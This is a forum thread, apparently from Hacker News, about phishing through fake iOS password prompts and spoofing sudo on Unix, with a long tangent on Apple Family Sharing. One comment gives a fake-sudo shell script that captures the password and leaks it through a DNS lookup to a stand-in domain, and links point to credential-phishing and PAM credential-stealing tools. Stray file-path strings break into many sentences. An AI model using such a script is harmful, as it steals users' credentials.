>A perfect solution on iOS is to "minimize" the application so thatthe home screen is shown and then show the password prompt.

IIRC, this is similar to what happens in Windows since Vista. When you need to input your root password, all applications are minimized and you only see a dim wallpaper and the password prompt.

Right, but in Windows can't any application reproduce that behavior?

Yup. And I'm sure there's some implementation of this in the form of a sketchy library.

Powershell script to do something similar: https://raw.githubusercontent.com/enigma0x3/Invoke-LoginProm...

Blog post with screenshots: http://enigma0x3.net/2015/01/21/phishing-for-credentials-if-...

There's probably some browser based equivalent somewhere too.

Ya there are some solutions, like you can prefix a '\' before a command to make sure you are running the real command and not a alias, so in your example running:

    \sudo <command>
would defeat your attack. But few are in the practice of doing that.

> But few are in the practice of doing that.

Because there's no point. If I'm able to manipulate your shell environmentto set aliases, I can also change your search path so that \sudo picks up the program I want. And no, you can't defeat that by only running /usr/bin/sudo because there are a million other nasty things to do once an attacker has reached this level of control.

I'm sure there are plenty of tricks. I could be wrong, but I think the \ is a shell builtin thing, so I don't think creating a \sudo or the like would work. You could set the PATH and put a fake sudo in a secret directory in there that precedes the/usr/bin/sudo though, so that would be a problem.

untested, but I think you could possibly bypass it with a malicious .inputrc binding for <enter>, although making it conditional such that it only removed a leading \ could be tricky.

In Bash there might also be a way to do something cunning with a 'trap DEBUG' hook to modify the command between submission and it actually being run.

Or you could just exec into a terminal multiplexer like screen[1] to intercept & rewrite/suppress both commands and output.

Edit: It's much easier than that.

The function:

    echo () { command echo "hax" $@; }
will still be called by '\echo test' (The 'command' prefix stops it becoming a forkbomb :)

[1] or maybe just hijack stdin/out FDs from the shell?

Would it?

If the attackerwas able to backdoor the system, isn't also possible they could install a modified shell that no-ops \?

Isn't the login shell set in /etc/passwd? So you would need root to either modify that, or to overwrite the shell binary.

Didn't know that! Thanks.

There's already something in iOS to handle this: The overlay for apple pay. It slides up from the bottom and is easily distinguishable from the app you're using. If they had something similar for the iTunes password it would work really well

> A perfect solution on iOS is to "minimize" the application so that the home screen is shown and then show the password prompt. The user would immediately recognize the wallpaper and icons to be theirs, which are two pieces of information unavailable to the application. However, the application could still fool the user by displaying the box over the application anyway.

Isn't it exactly what happens on windows anyway?

I think you don't hear about the sudo variant because it's almost never used (though I'll be honest, I never considered impersonating sudo, going to have to add that to my bag of red team tricks). I think impersonating UI's is pretty common though, tons of ads/malware made themselves to look like windows alerts.

There's little reason to actually impersonate sudo, IMO. Just add a malicious PAM module[1] and log the credentials entered for the real sudo (as well as password-based logon, etc.).

[1] e.g. https://github.com/ONsec-Lab/scripts/tree/master/pam_steal

You can't insert a pam module without root? But you can alias sudo to a script that does something like:

  echo "enter sudo pw:"
  read pw
  # log ip and query on ns for
  # example.com
  host "$USER.$pw.example.com" &echo "Invalid pw"
  sudo $*

Ed: from the github link: > Usage: add "auth required pam_steal.so" into /etc/pam.d/common-auth

If you can write to pam.d/common-auth - you might be able to add a kernel module, or change boot to start the whole os install in a vm...

Why not just make it so that a password dialog can't be created with certain word combos like "Apple ID" and "Sign In to iTunes Store"

Still might fool some users who aren't paying attention but seems like it would be a simple start.

MacOS with the new TouchID is pretty bad on this as well. I thought all user password prompts would be replaced with Touch ID but it's very much hit and miss and varies greatly.

Back in the day, we used to train operators to use 'type sudo' before every use of the sudo command, to be sure they weren't surreptitiously using an alias ..

One solution that seems obvious to me is - the OS itself can detect fake popups such as this. It can even be a fast neural net that checks the screen, say, once a second.

A neural net for what could be a simple string comparison?

It must be an image comparison, and it's can be a simple 1-to-1, because all it takes is one modified pixel to break that. That's why it has to be some sort of an image recognition technology.

A string comparisonwould not catch my next attack, a bitmap-based imitation.

For a while iOS would just seemingly randomly ask me to enter my icloud password. I’m so used to this that without reading this article I would have literally fall for this every single time.

I have a joke with my family that I am forced to enter iTunes password on at least one iOS device - daily. We share one iTunes account, and whenyou enter the password on one device, allthe others prompt for a password when unlocked. It's mildly frustrating when you have kids, and multiple iOS devices.

The scenario goes like this: One of my kids' Messages app stops working (thanks Apple!). I am forced to turn off/on Messages, and during the process Apple asks for my password. Then, when I attempt to use my other iOS devices, I am prompted for the same password ... on ... every ... device. Then, about 20% of the time the password does not "take" and I am forced to ignore and attempt at a later time.


An aside, but wouldn’t you be better off with each person having their own Apple ID and using family sharing to share apps and such?

I'm sure there is a better way, but it would probably require a "weekends worth" of time to convert my entire iOS empire. When we started with Apple,"family sharing" and "ask to buy" wasn't a thing (so I'm not locked into the shared model) but I willdefinitely check it out - I didn't know I could create an Apple ID for my child AND share apps among all family members.

For those interested: https://support.apple.com/en-us/HT201084I set up Family Sharing this weekend and you are correct for a familyof five it is like a half day effort including figuring out unique usernames, being asked to use the same secret questions and then fixing the settings on each iOS device. If you have a toddler hanging on you and a curious 9 old, it is exhausting. Still it seems worth it as with each iOS update iMessages is re-enabled, which would lead to embarrassment if my vigilance wavers. Also, I like the idea of the kids having their own iCloud sync/backups.

There's one annoying omission from family sharing: no IAP are included. And almost every kids game has one. Not talking freemium but just ones with one free level that gets kids hooked.

That doesn't appear to be thecase for us. We have sharing and my spouse and son make IAPs frequently. For him, I'm alerted to authorize the payment.

You can share the payment method, but family members can't benefit from the "unlock" of the IAP and must each purchase it separately.

I believe that is set by the app creator so that users wouldn't try to load the same subscription under multiple accounts. I'm speaking of the general app purchases, and family subscriptions we haven't had an issue with.

IAP = In App Purchases

Oh, interesting. I hadn't encountered that, but that's very annoying.

Family Sharing has its own annoying issues. A spent one entire Saturday trying to work through everything just so my son could way Frozen on his iPad. This was the most frustrating experience I've had in a long time. You'd think it would be easy, but it wasn't.

In the end, I just let him watch it on my device and he was happy. Myself? I'm of the opinion that whoever design Apple Family Sharing should be ashamed. It's a horribly convoluted system that was either a) never tested by a real family (or they were completely ignored) or b) designed to be horrible on purpose.

I tried family sharing with my wife, and it resulted in her being unable to purchase any apps, even though she was set up as an adult user.

We ended up turning it off because sharing apps wasn't worth the "Hey, can you buy this app for me?" coordination.

And then there was all manner of nonsense after we turned it off, too.

I assume there are other weird bugs in familysharing.

Works fine in our household. The only time I'm alerted is when the CC statement arrives. Then I rib her for her CC Saga addiction.

Aaaand this is why I probably won't try it. I'll deal with being the only one who "knows the iTunes password".

The Apple's way of implementing authentication into the various services caused me a lot of frustration. All this constant password reassurances combined with the necessity of complex passwords that is difficult to type in on an iOS device and the previously very persistent enforcement of constant user agreement updates made me use the least possible services. It was far from a pleasant user experience. I might have missed several things, interestingly looking non-essential programs or cool iCloud features that I gave up to avoid these annoyances, but that is it now. I will never know. It is still enough to 'click' those remaining stupid messages away that block you from using the device, like click away warning about the accuracy oflocal positioning when I want to make a photo on a situation that goes away in 3 seconds (so eventually no point of warning me about metadata of a photo not happening), it is absolutely wrong obstructing the user more, repeatedly, in using its device. I guess I accepted not to use the iPhone that much as its potentials would allow. I don't trust it (firstly just about its usability, now about its security as well).

I’m not sure if something is screwed up with your account or your devices or what, but I do t have that wacky experience amongst all my devices that share an account (~7-8 of them).

I agree, the ongoing and erratic basis that my devices ask me to sign in to iCloud is a serious flaw. I already find iCloud a completely opaque mess of services that I don't understand, and this doesn't help. The only saving grace is that cancelling out of these requests usually has no obvious downside.

I had the same issue, but I was so paranoid that I would always cancel out and not put in my password. I'm 95% sure it was legit, but randomly asking my password for seemingly no reason made me paranoid.

Yeah, If i get a password prompt and I didn't do anything to "initiate" it, then i'm not typing my password in. I've never had anything fail using thisbehavior so I feel I'msafe.

"feel" being the operative word here - am I safer? Who knows?

I've experienced this as well. I seem to be able to just cancel out of it but I'd like to know what's triggering it. It would be nice if the password box had some text to explain the context of the request.

So why does iCloud(?) randomly ask for credentials?

Me too. For a while it was truly awful on my Mac as well, constantly requiring a login. Signing out from all my devices and logging in again finally put it to bed, but it's seriously concerning when you consider how much sensitive info is carried by iCloud.

Once an OS trains it’s users to enter their password without thinking about it, because of random (seeming) password prompts, they’re already fucked. Apple screwed this up on iOS years ago.

This is the key here; immunity to phishing is something you have to fight for. Even if Apply changes to no longer prompt like this, or to make the "official" prompt significantly different, the damage has already been done. 75.3% of users will see the "old-fashioned" prompt and just assume it's kosher becausesome subcomponent hasn't updated or something and that's game over.

